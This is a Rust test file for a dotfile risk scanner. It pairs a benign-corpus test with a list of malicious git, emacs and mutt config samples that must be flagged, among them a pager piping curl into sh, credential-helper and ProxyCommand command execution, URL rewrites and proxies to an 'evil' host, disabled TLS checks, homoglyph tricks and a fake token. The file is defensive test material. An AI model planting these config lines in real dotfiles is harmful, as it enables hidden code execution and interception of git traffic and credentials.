//! The benign corpus (realistic dotfiles in `tests/corpus/git` and
//! `tests/corpus/benign`) raises nothing above medium; the malicious corpus below
//! raises a gated finding for every sample, reported by class.
//!
//! Benign files of a type whose parser is not in this build (parser id without a
//! function in `risk::parse::parser`) are skipped and counted: their every changed
//! line is gated by design until the parser exists. `gated-*` seeds of the git
//! oracle (includes, which load config the review cannot see) are not benign.

use std::path::Path;

use qcs_core::risk::{Engine, FileKind, Finding, ScanInput, Severity};

fn scan(path: &str, content: &[u8]) -> Vec<Finding> {
    Engine::shared().scan(&ScanInput {
        path,
        content,
        base: None,
        mode: Some(0o644),
        kind: FileKind::Regular,
    })
}

fn home_path(file: &str) -> Option<&'static str> {
    let prefix = file.split('.').next()?;
    Some(match prefix {
        "attributes" => ".config/git/attributes",
        "ssh_config" => ".ssh/config",
        "vimrc" => ".vimrc",
        "tmux" => ".tmux.conf",
        "inputrc" => ".inputrc",
        _ if file.ends_with(".gitconfig") => ".gitconfig",
        _ => return None,
    })
}

#[test]
fn benign_corpus_raises_nothing_above_medium() {
    let engine = Engine::shared();
    let root = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/corpus");
    let (mut scanned, mut skipped, mut lines) = (0, Vec::new(), 0);
    let mut loud = Vec::new();
    for dir in ["git", "benign"] {
        let mut files: Vec<_> = std::fs::read_dir(root.join(dir))
            .expect("corpus dir")
            .filter_map(Result::ok)
            .map(|e| e.path())
            .collect();
        files.sort();
        for file in files {
            let name = file
                .file_name()
                .and_then(|n| n.to_str())
                .unwrap_or_default();
            // Oracle seeds that gate by design (includes load unseen config).
            if name.starts_with("gated-") {
                continue;
            }
            let path = home_path(name).unwrap_or_else(|| panic!("no home path for {name}"));
            let ft = engine.filetype_of(path).expect("known type");
            let parser = engine.filetype_parser(ft).unwrap_or("lines");
            if qcs_core::risk::parse::parser(parser).is_none() {
                skipped.push(format!("{name} ({ft}: parser {parser} not in this build)"));
                continue;
            }
            let content = std::fs::read(&file).expect("read");
            lines += content.split(|b| *b == b'\n').count();
            scanned += 1;
            // meta.new-path is about the profile (a file it did not have), not content.
            for f in scan(path, &content) {
                if f.severity > Severity::Medium && f.rule != "meta.new-path" {
                    loud.push(format!(
                        "{name}: {} {:?} {:?}: {}",
                        f.rule, f.severity, f.line, f.message
                    ));
                }
            }
        }
    }
    eprintln!(
        "benign corpus: {scanned} files, {lines} lines scanned, {} above medium; skipped {}: {skipped:?}",
        loud.len(),
        skipped.len()
    );
    assert!(scanned >= 6, "{scanned}");
    assert!(loud.is_empty(), "{}", loud.join("\n"));
}

/// (class, path, content): each must raise a finding that gates.
const MALICIOUS: &[(&str, &str, &str)] = &[
    (
        "runs code",
        ".gitconfig",
        "[core]\n\tpager = sh -c 'curl x|sh'\n",
    ),
    ("runs code", ".gitconfig", "[alias]\n\tst = !sh -c id\n"),
    (
        "runs code",
        ".gitconfig",
        "[alias]\n\tst = -c core.pager=id log\n",
    ),
    ("runs code", ".gitconfig", "[alias]\n\tst = \\\"-c\\\" x\n"),
    (
        "runs code",
        ".gitconfig",
        "[web]\n\tbrowser = evil\n[browser \"evil\"]\n\tcmd = id\n",
    ),
    (
        "runs code",
        ".gitconfig",
        "[man]\n\tviewer = x\n[man \"x\"]\n\tcmd = id\n",
    ),
    ("runs code", ".gitconfig", "[core]\n\tfsmonitor = /tmp/x\n"),
    ("runs code", ".gitconfig", "[diff \"x\"]\n\ttextconv = id\n"),
    (
        "runs code",
        ".gitconfig",
        "[filter \"x\"]\n\tprocess = id\n",
    ),
    ("runs code", ".gitconfig", "[credential]\n\thelper = !id\n"),
    (
        "runs code",
        ".gitconfig",
        "[core]\n\tsshCommand = ssh -oProxyCommand=id\n",
    ),
    (
        "runs code",
        ".gitconfig",
        "[protocol \"ext\"]\n\tallow = always\n",
    ),
    (
        "runs code",
        ".gitconfig",
        "[init]\n\ttemplateDir = /tmp/t\n",
    ),
    (
        "runs code",
        ".gitconfig",
        "[help]\n\tautocorrect = immediate\n",
    ),
    ("runs code", ".config/git/attributes", "* filter=x\n"),
    ("runs code", ".emacs", "(shell-command \"id\")\n"),
    ("runs code", ".muttrc", "set sendmail=\"sh -c id\"\n"),
    (
        "redirects trust",
        ".gitconfig",
        "[url \"https://evil/\"]\n\tinsteadOf = https://github.com/\n",
    ),
    (
        "redirects trust",
        ".gitconfig",
        "[http]\n\tsslVerify = false\n",
    ),
    (
        "redirects trust",
        ".gitconfig",
        "[http]\n\tproxy = http://evil:8080\n",
    ),
    (
        "redirects trust",
        ".gitconfig",
        "[transfer]\n\tfsckObjects = false\n",
    ),
    (
        "redirects trust",
        ".gitconfig",
        "[include]\n\tpath = /tmp/x\n",
    ),
    (
        "unknown setting",
        ".gitconfig",
        "[core]\n\tfutureKnob = 1\n",
    ),
    ("unknown setting", ".gitconfig", "[lfs]\n\turl = x\n"),
    (
        "parser differential",
        ".gitconfig",
        "[core]\n\tpager = less\x00\n",
    ),
    ("parser differential", ".gitconfig", "[core\n\tpager = x\n"),
    (
        "hidden characters",
        ".gitconfig",
        "[user]\n\tname = a\u{202E}b\n",
    ),
    (
        "hidden characters",
        ".gitconfig",
        "[user]\n\tname = a\u{E0041}\n",
    ),
    (
        "hidden characters",
        ".gitconfig",
        "[core]\n\t\u{0455}shCommand = x\n",
    ),
    (
        "look-alike path",
        ".g\u{0456}tconfig",
        "[user]\n\tname = A\n",
    ),
    ("look-alike path", ".gitconfig ", "[user]\n\tname = A\n"),
    (
        "secrets",
        "notes/todo.txt",
        "token ghp_0123456789abcdefghijABCDEFGHIJ012345\n",
    ),
    (
        "secrets",
        "notes/key.txt",
        "-----BEGIN OPENSSH PRIVATE KEY-----\nAAA\n",
    ),
    ("unknown file", ".config/someapp/rc", "exec = id\n"),
];

#[test]
fn malicious_corpus_gates_every_sample() {
    let mut by_class: std::collections::BTreeMap<&str, (usize, usize)> = Default::default();
    let mut missed = Vec::new();
    for (class, path, content) in MALICIOUS {
        let f = scan(path, content.as_bytes());
        let gated = f.iter().any(|f| f.gated() && f.rule != "meta.new-path");
        let e = by_class.entry(class).or_default();
        e.0 += 1;
        if gated {
            e.1 += 1;
        } else {
            missed.push(format!("{class} {path:?} {content:?}"));
        }
    }
    eprintln!("malicious corpus by class (samples, gated): {by_class:?}");
    assert!(missed.is_empty(), "{}", missed.join("\n"));
}
